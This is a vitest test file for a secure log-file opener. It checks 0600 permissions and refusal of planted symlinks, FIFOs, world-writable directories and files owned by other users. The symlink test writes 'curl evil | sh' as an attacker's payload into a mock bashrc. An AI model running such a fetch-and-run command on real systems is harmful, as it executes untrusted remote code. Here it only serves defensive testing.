import { execFileSync } from 'node:child_process';
import { closeSync, writeSync } from 'node:fs';
import { chmod, chown, mkdtemp, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { openPrivateLogFile } from '../../../main/files/private-log-file';

let dir: string;

beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'lk-log-'));
});

afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

function append(path: string, text: string): void {
  const fd = openPrivateLogFile(path);
  try {
    writeSync(fd, text);
  } finally {
    closeSync(fd);
  }
}

describe('openPrivateLogFile', () => {
  it('creates the log 0600 and appends to it', async () => {
    const log = join(dir, 'agent.log');
    append(log, 'one\n');
    append(log, 'two\n');
    expect(await readFile(log, 'utf8')).toBe('one\ntwo\n');
    expect((await stat(log)).mode & 0o777).toBe(0o600);
  });

  it('narrows an existing log that others could read to 0600', async () => {
    const log = join(dir, 'agent.log');
    await writeFile(log, 'old\n');
    await chmod(log, 0o644);
    append(log, 'new\n');
    expect((await stat(log)).mode & 0o777).toBe(0o600);
  });

  it('never follows a symlink planted at the log name', async () => {
    const victim = join(dir, 'bashrc');
    await writeFile(victim, 'export PATH=/usr/bin\n');
    await symlink(victim, join(dir, 'agent.log'));
    expect(() => append(join(dir, 'agent.log'), 'curl evil | sh\n')).toThrow(/agent\.log is not a log file of this user; remove it/);
    expect(await readFile(victim, 'utf8')).toBe('export PATH=/usr/bin\n');
  });

  it('refuses a FIFO at once instead of blocking on it', () => {
    execFileSync('mkfifo', [join(dir, 'agent.log')]);
    expect(() => append(join(dir, 'agent.log'), 'x')).toThrow(/is not a log file of this user/);
  });

  it('refuses a log in a directory other users can change', async () => {
    await chmod(dir, 0o777);
    expect(() => append(join(dir, 'agent.log'), 'x')).toThrow(/other users can change/);
  });

  it.skipIf(process.getuid?.() !== 0)('refuses a log file that belongs to another user', async () => {
    const log = join(dir, 'agent.log');
    await writeFile(log, '');
    await chown(log, 4242, 4242);
    expect(() => append(log, 'x')).toThrow(/is not a log file of this user/);
  });
});
